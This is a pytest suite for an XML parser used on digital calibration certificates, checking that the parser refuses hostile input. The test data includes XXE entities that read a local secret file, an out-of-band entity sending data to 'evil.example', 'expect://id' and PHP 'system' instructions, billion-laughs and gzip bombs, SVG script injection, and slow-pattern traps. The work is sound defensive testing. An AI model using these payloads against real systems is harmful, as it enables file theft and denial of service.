"""What enemies send as XML: outside files, blow-ups, traps for patterns, nonsense for numbers; it all ends quickly."""

import gzip
import time
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from tests.formats.sample_keys import anchors, signed_sample

from jialiang.formats.authenticity.examination import examine
from jialiang.formats.canonical import sha256_hex
from jialiang.formats.dcc.reading import read_certificate
from jialiang.formats.xml.canonicalization import serialized
from jialiang.formats.xml.errors import (
    DoctypeRefused,
    EncodingRefused,
    ProcessingInstructionRefused,
    TooManyNamespaces,
    XIncludeRefused,
    XmlNotWellFormed,
    XmlTooLarge,
)
from jialiang.formats.xml.parsing import XmlLimits, parse_xml
from jialiang.formats.xml.prolog import check_prolog
from jialiang.kernel.errors import JialiangError

SECRET = "the secret of this machine"
QUICK = 1.5  # seconds; what went wrong here took minutes


def took(function, *arguments, **named):
    """The seconds that a call takes, however it ends, as long as it ends in an error of ours."""
    start = time.perf_counter()
    with suppress(JialiangError):
        function(*arguments, **named)
    return time.perf_counter() - start


def doctype(body):
    return f"<!DOCTYPE dcc [{body}]><dcc>&x;</dcc>".encode()


# --- files and addresses from outside ------------------------------------------------------------------------


@pytest.fixture
def secret(tmp_path):
    file = tmp_path / "secret.txt"
    file.write_text(SECRET, encoding="utf-8")
    return file


ENTITIES = {
    "a file": '<!ENTITY x SYSTEM "{uri}">',
    "a public name": '<!ENTITY x PUBLIC "-//X//EN" "{uri}">',
    "a parameter entity": '<!ENTITY % p SYSTEM "{uri}"> %p;',
    "out of band": '<!ENTITY % d SYSTEM "{uri}"> <!ENTITY % e "<!ENTITY x SYSTEM \'http://evil.example/?%d;\'>"> %e;',
    "a default attribute": '<!ATTLIST dcc note CDATA "&x;"> <!ENTITY x SYSTEM "{uri}">',
    "an unparsed entity": '<!NOTATION n SYSTEM "{uri}"> <!ENTITY x SYSTEM "{uri}" NDATA n>',
}


@pytest.mark.parametrize("declaration", ENTITIES.values(), ids=ENTITIES)
def test_no_entity_reaches_a_file(secret, declaration):
    with pytest.raises(DoctypeRefused) as refused:
        parse_xml(doctype(declaration.format(uri=secret.as_uri())))
    assert SECRET not in str(refused.value.to_json())


@pytest.mark.parametrize("uri", ["{file}", "http://127.0.0.1:9/x.dtd", "//evil.example/x", "expect://id"])
def test_an_external_subset_is_refused_wherever_it_lies(secret, uri):
    with pytest.raises(DoctypeRefused):
        parse_xml(f'<!DOCTYPE dcc SYSTEM "{uri.format(file=secret.as_uri())}"><dcc/>'.encode())


@pytest.mark.parametrize(
    "encoding", ["utf-7", "UTF-7", "ebcdic-cp-us", "ibm037", "iso-2022-jp", "hz-gb-2312"]
)
def test_encodings_in_which_markup_can_hide_are_refused(encoding):
    with pytest.raises(EncodingRefused) as refused:
        parse_xml(f'<?xml version="1.0" encoding="{encoding}"?><dcc>+ADwAIQ-DOCTYPE</dcc>'.encode())
    assert refused.value.facts["encoding"] == encoding


@pytest.mark.parametrize("parse", ["xml", "text"])
def test_xinclude_brings_nothing_in(secret, parse):
    asked = f'<i:include href="{secret.as_uri()}" parse="{parse}"/>'
    included = f'<dcc xmlns:i="http://www.w3.org/2001/XInclude">{asked}</dcc>'
    with pytest.raises(XIncludeRefused) as refused:
        parse_xml(included.encode())
    assert SECRET not in str(refused.value.to_json())


def test_the_old_namespace_of_xinclude_stays_a_plain_element(secret):
    old = f'<dcc xmlns:i="http://www.w3.org/2003/XInclude"><i:include href="{secret.as_uri()}" parse="text"/></dcc>'
    assert SECRET.encode() not in serialized(parse_xml(old.encode()))


def test_a_style_sheet_is_never_fetched_and_one_inside_the_root_is_refused(secret):
    outside = f'<?xml-stylesheet type="text/xsl" href="{secret.as_uri()}"?><dcc/>'.encode()
    assert SECRET.encode() not in serialized(parse_xml(outside))
    inside = b"<dcc><?xml-stylesheet href='x'?></dcc>"
    with pytest.raises(ProcessingInstructionRefused):
        parse_xml(inside)


@pytest.mark.parametrize(
    ("markup", "target"),
    [(b"<?php system('id') ?><dcc/>", "php"), (b"<dcc><?php system('id') ?></dcc>", "php"),
     (b"<dcc/><?mso-application progid='Word.Document'?>", "mso-application"),
     (b"<!-- a --><?xml-model href='x'?><dcc/>", "xml-model")],
)  # fmt: skip
def test_instructions_to_programs_are_refused_before_inside_and_behind_the_root(markup, target):
    with pytest.raises(ProcessingInstructionRefused) as refused:
        parse_xml(markup)
    assert refused.value.facts["target"] == target


def test_the_target_of_a_refused_instruction_is_shown_only_in_part():
    with pytest.raises(ProcessingInstructionRefused) as refused:
        parse_xml(b"<?" + b"a" * 500 + b" ?><dcc/>")
    assert refused.value.facts["target"] == "a" * 80


def test_a_schema_location_is_text_and_is_not_followed(secret):
    located = dcc_xml_with_schema_at(secret.as_uri())
    assert read_certificate(located).number == "JZ2026-000123"


def dcc_xml_with_schema_at(uri):
    tree = etree.fromstring(signed_sample())
    tree.set("{http://www.w3.org/2001/XMLSchema-instance}schemaLocation", f"https://ptb.de/dcc {uri}")
    return etree.tostring(tree)


def test_a_picture_with_a_script_inside_a_certificate_is_altered_content():
    svg = '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'
    changed = signed_sample().replace(
        b"</dcc:measurementResults>", svg.encode() + b"</dcc:measurementResults>"
    )
    examined = examine(changed, trusted=anchors(), at=None)
    assert examined.findings.integrity.outcome == "failed"


def test_a_packed_file_is_not_unpacked():
    bomb = gzip.compress(b"<dcc>" + b" " * 5_000_000 + b"</dcc>")
    with pytest.raises(XmlNotWellFormed):
        parse_xml(bomb)


# --- blow-ups ------------------------------------------------------------------------------------------------


def laughs(levels):
    lines = ['<!ENTITY x0 "ha">', *(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, levels))]
    return f"<!DOCTYPE dcc [{''.join(lines)}]><dcc>&x{levels - 1};</dcc>".encode()


def test_entities_that_multiply_are_refused_by_their_declaration():
    with pytest.raises(DoctypeRefused):
        parse_xml(laughs(12))
    with pytest.raises(DoctypeRefused):
        parse_xml(b'<!DOCTYPE d [<!ENTITY a "' + b"A" * 100_000 + b'">]><d>' + b"&a;" * 10_000 + b"</d>")


TRAPS = {
    "an instruction without end": b"<?" + b"a" * 1_000_000,
    "an instruction without end after blanks": b"<?a" + b" " * 1_000_000,
    "a comment without end": b"<!--" + b"-" * 1_000_000,
    "a declaration without end": b"<?xml " + b"?" * 1_000_000,
    "a declaration full of encodings": b"<?xml " + b"encoding=" * 100_000 + b"?><a/>",
    "blanks without root": b" \n\t" * 500_000,
    "comments without root": b"<!---->" * 100_000,
    "instructions without end in UTF-16": "<?" .encode("utf-16-le") + "a".encode("utf-16-le") * 500_000,
}  # fmt: skip


@pytest.mark.parametrize("data", TRAPS.values(), ids=TRAPS)
def test_a_prolog_of_a_million_letters_is_looked_at_once(data):
    assert took(check_prolog, data) < QUICK
    assert took(parse_xml, data) < QUICK


NAMESPACE_TRAPS = {
    "the word xmlns as text": b"<a>" + b"xmlns" * 200_000 + b"</a>",
    "the word xmlns between blanks": b"<a>" + b" xmlns" * 200_000 + b"</a>",
    "the word xmlns before blanks": b"<a> xmlns" + b" " * 1_000_000 + b"</a>",
    "colons": b"<a> " + b"xmlns:" * 200_000 + b"</a>",
    "an attribute of xmlns": b'<a b="' + b"xmlns" * 200_000 + b'"/>',
}


@pytest.mark.parametrize("data", NAMESPACE_TRAPS.values(), ids=NAMESPACE_TRAPS)
def test_text_that_looks_like_namespaces_costs_nothing_and_is_no_namespace(data):
    start = time.perf_counter()
    assert parse_xml(data).getroot().tag == "a"
    assert time.perf_counter() - start < QUICK


@pytest.mark.parametrize("blank", [" ", "\n", "\t", "\r\n"])
@pytest.mark.parametrize("equals", ["=", " = ", "\n="])
def test_prefixes_are_counted_however_they_are_written(blank, equals):
    declared = "".join(f"{blank}xmlns:p{n}{equals}'urn:{n}'" for n in range(9))
    with pytest.raises(TooManyNamespaces) as refused:
        parse_xml(f"<a{declared}/>".encode(), XmlLimits(attributes=8))
    assert refused.value.facts["prefixes"] == 9
    assert parse_xml(f"<a{declared}/>".encode(), XmlLimits(attributes=9)).getroot().nsmap["p8"] == "urn:8"


def test_prefixes_are_counted_in_utf_16_too():
    declared = " ".join(f"xmlns:p{n}='urn:{n}'" for n in range(9))
    with pytest.raises(TooManyNamespaces):
        parse_xml(f"<a {declared}/>".encode("utf-16"), XmlLimits(attributes=8))


def test_the_work_of_canonicalization_is_bounded_by_prefixes_squared_times_elements():
    document = b"<a xmlns:p='urn:p' xmlns:q='urn:q'>" + b"<b/>" * 9 + b"</a>"
    assert parse_xml(document, XmlLimits(namespace_work=2**2 * 10)) is not None
    with pytest.raises(TooManyNamespaces):
        parse_xml(document, XmlLimits(namespace_work=2**2 * 10 - 1))


@pytest.mark.parametrize("over", [0, 1])
def test_the_limit_of_size_is_the_last_size_that_is_read(over):
    data = b"<a>" + b"x" * 100 + b"</a>"
    limits = XmlLimits(size=len(data) - over)
    if over:
        with pytest.raises(XmlTooLarge) as refused:
            parse_xml(data, limits)
        assert refused.value.facts["size"] == len(data)
        assert refused.value.http_status == 413
    else:
        assert parse_xml(data, limits).getroot().text == "x" * 100


# --- broken files that are asked who they were ---------------------------------------------------------------

BROKEN_TRAPS = {
    "blanks behind a number": b"<a>uniqueIdentifier>" + b" " * 500_000,
    "numbers without end": b"<a>" + b"uniqueIdentifier>" * 50_000,
    "numbers before blanks": b"<a>" + (b"uniqueIdentifier>" + b" " * 300) * 2_000,
    "identifiers without value": b"<a>" + b"jl_identifier'" * 50_000,
    "identifiers before many values": b"<a>" + (b"jl_identifier'" + b"value>" * 33) * 5_000,
    "blanks behind a value": b"<a>jl_identifier' value>" + b" " * 500_000,
}


@pytest.mark.parametrize("data", BROKEN_TRAPS.values(), ids=BROKEN_TRAPS)
@pytest.mark.parametrize("beginning", [b"", b"%PDF-1.7\n"], ids=["xml", "pdf"])
def test_a_broken_file_cannot_make_the_search_for_its_number_expensive(data, beginning):
    assert took(examine, beginning + data, trusted=anchors(), at=None, attachments_of_pdf=fails) < QUICK


def fails(_):
    raise XmlNotWellFormed(line=1, column=1, detail="not a PDF")


@pytest.mark.parametrize(
    ("markup", "identifier", "number"),
    [
        ("<x refType='jl_identifier'><value>10.9999/jl.1</value>", "10.9999/jl.1", ""),
        ("<x refType='jl_identifier'><value>\n  10.9999/jl.1\n </value>", "10.9999/jl.1", ""),
        ("<x refType='jl_identifier'><value></value><value>10.9999/jl.1</value>", "10.9999/jl.1", ""),
        (
            "<x refType='jl_identifier'/><x refType='jl_identifier'><value>10.9999/jl.1</value>",
            "10.9999/jl.1",
            "",
        ),
        ("<dcc:uniqueIdentifier> JZ 2026 1 </dcc:uniqueIdentifier>", "", "JZ 2026 1"),
        ("<uniqueIdentifier></uniqueIdentifier><uniqueIdentifier>JZ-1</uniqueIdentifier>", "", "JZ-1"),
        (
            "<x refType='jl_identifier'><value>two words</value><uniqueIdentifier>JZ-1</uniqueIdentifier>",
            "",
            "JZ-1",
        ),
        ("<x refType='jl_identifier'><value>ab</value><uniqueIdentifier>JZ-1</uniqueIdentifier>", "", "JZ-1"),
        (
            "<uniqueIdentifier>" + "J" * 201 + "</uniqueIdentifier><uniqueIdentifier>JZ-1</uniqueIdentifier>",
            "",
            "JZ-1",
        ),
        ("<uniqueIdentifier>" + "J" * 200 + "</uniqueIdentifier>", "", "J" * 200),
    ],
)
def test_a_broken_file_says_who_it_was_as_far_as_it_can_be_made_out(markup, identifier, number):
    for encoding in ("utf-8", "utf-16-le"):
        examined = examine(f"<dcc>{markup}".encode(encoding), trusted=anchors(), at=None)
        assert (examined.identifier, examined.number) == (identifier, number)
        assert not examined.is_readable
        assert (examined.kind, examined.sha256) == ("xml", sha256_hex(f"<dcc>{markup}".encode(encoding)))


def test_a_letter_that_turns_the_direction_of_writing_is_not_shown():
    broken = "<dcc><uniqueIdentifier>JZ\u202e1</uniqueIdentifier>".encode()
    assert examine(broken, trusted=anchors(), at=None).number == "JZ\ufffd1"


# --- nonsense where numbers should be ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "number", ["1e999999999", "9" * 20_000, "1e-999999999", "NaN NaN", "", "−1", "1,5", "0x10"]
)
def test_numbers_of_others_are_shown_as_they_stand_and_never_computed(number):
    xml = signed_sample().replace(b"21.521 22.012", f"{number} 22.012".encode())
    start = time.perf_counter()
    columns = read_certificate(xml).results[0].quantities
    assert time.perf_counter() - start < QUICK
    first = number.split()[0] if number.split() else "22.012"
    assert columns[1].quantity_values[0] == ("" if first == "NaN" else first)


def test_a_list_of_a_hundred_thousand_values_is_read_quickly():
    values = " ".join(f"{n}.0" for n in range(100_000))
    xml = signed_sample().replace(b"21.521 22.012", values.encode())
    start = time.perf_counter()
    view = read_certificate(xml)
    assert time.perf_counter() - start < 3
    assert view.results[0].quantities[1].quantity_values[99_999] == "99999.0"


@settings(max_examples=80, deadline=None)
@given(
    st.binary(max_size=300),
    st.sampled_from([b"<?xml ", b"<!--", b"<a xmlns:", b"<![CDATA[", b"\xff\xfe<", b"<a>&#"]),
)
def test_no_beginning_leads_anywhere_but_to_a_tree_or_an_error_of_ours(rest, beginning):
    try:
        tree = parse_xml(beginning + rest)
    except JialiangError as problem:
        assert problem.code.startswith("JL-XML-")
        assert problem.facts["line"] >= 1
        assert problem.facts["column"] >= 1
    else:
        assert not tree.docinfo.doctype
